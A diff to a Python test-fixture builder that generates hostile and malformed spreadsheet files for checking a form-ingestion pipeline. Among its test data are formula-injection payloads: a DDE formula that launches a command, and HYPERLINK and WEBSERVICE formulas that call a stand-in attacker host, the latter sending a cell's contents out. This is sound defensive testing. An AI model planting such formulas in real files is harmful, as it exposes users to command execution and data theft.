@@ -14,6 +14,7 @@ from typing import Any
 
 from ingest.forms.contract import column_letter
 from ingest.forms.filling import DateCell, ErrorCell, Formula, SheetEdits
+from tests.bad_files.legacy_traps import legacy
 from tests.bad_files.odd_spellings import odd_but_good
 from tests.bad_files.surgery import (
     EVENT,
@@ -77,7 +78,6 @@ def hostile() -> dict[str, bytes]:
             good, {"xl/externalLinks/externalLink1.xml": HEAD.encode() + b"<externalLink/>"}
         ),
         "embedded_object.xlsx": added(good, {"xl/embeddings/oleObject1.bin": OLE + bytes(64)}),
-        "password.xlsx": OLE + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(480),
         "hyperlink_formula.xlsx": s3({"title": Formula('HYPERLINK("http://evil.example","Проба")', "Проба")}),
         "dde_formula.xlsx": s3({"participants_total": Formula("cmd|' /C calc'!A0", 0)}),
         "webservice_formula.xlsx": s3({"winners": Formula('WEBSERVICE("http://evil.example?"&B4)', 0)}),
@@ -89,14 +89,10 @@ def foreign() -> dict[str, bytes]:
     """Files that are not what their names say, or not whole."""
     good = s3()
     return {
-        "old_excel.xls": OLE + bytes(504) + "Workbook".encode("utf-16-le") + bytes(480),
         "renamed_program.xlsx": b"MZ\x90\x00" + bytes(124) + b"This program cannot be run in DOS mode.",
         "renamed_pdf.xlsx": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
         "html_table.xls": "<html><table><tr><td>ОГРН</td></tr></table></html>".encode(),
         "spreadsheet_2003.xls": b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook/>',
-        "open_document.xlsx": put_together(
-            {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<a/>"}
-        ),
         "word_document.xlsx": put_together(
             {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<a/>"}
         ),
@@ -334,7 +330,14 @@ def _percent_format() -> bytes:
     return changed(content, SHEET2, ('<c r="H4" s="6"><v>50</v>', f'<c r="H4" s="{last}"><v>1</v>'))
 
 
-GROUPS: tuple[Callable[[], dict[str, bytes]], ...] = (hostile, foreign, displaced, junk, odd_but_good)
+GROUPS: tuple[Callable[[], dict[str, bytes]], ...] = (
+    hostile,
+    foreign,
+    displaced,
+    junk,
+    legacy,
+    odd_but_good,
+)
 
 
 def build() -> dict[str, bytes]:
